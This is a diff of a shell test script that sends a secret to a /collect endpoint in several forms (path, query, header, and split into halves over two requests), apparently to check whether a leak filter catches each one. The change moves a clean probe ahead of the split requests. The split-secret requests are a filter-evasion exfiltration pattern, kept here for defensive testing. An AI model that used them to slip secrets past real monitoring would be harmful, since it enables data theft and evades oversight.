@@ -19,10 +19,12 @@ u="http://$ALLOWED:$PORT"
 get() { ask "GET $u$1 HTTP/1.1\r\nHost: $ALLOWED:$PORT\r\n$3Connection: close\r\n\r\n" "$2"; }
 half=$(( ${#k} / 2 ))
 first=$(printf '%s' "$k" | head -c "$half"); second=${k#"$first"}
-# the split first, while the filter has seen nothing else of it
+# a clean request first (in a place of its own: fragment reassembly joins
+# values by place), then the split, while the filter has seen nothing else
+# of the secret
+get "/collect?probe=clean" "clean"
 get "/collect?part=1&d=$first" "split, first half"
 get "/collect?part=2&d=$second" "split, second half"
-get "/collect?d=clean" "clean"
 get "/collect/$k" "path"
 get "/collect?d=$k" "query"
 get "/collect" "header" "X-Data: $k\r\n"
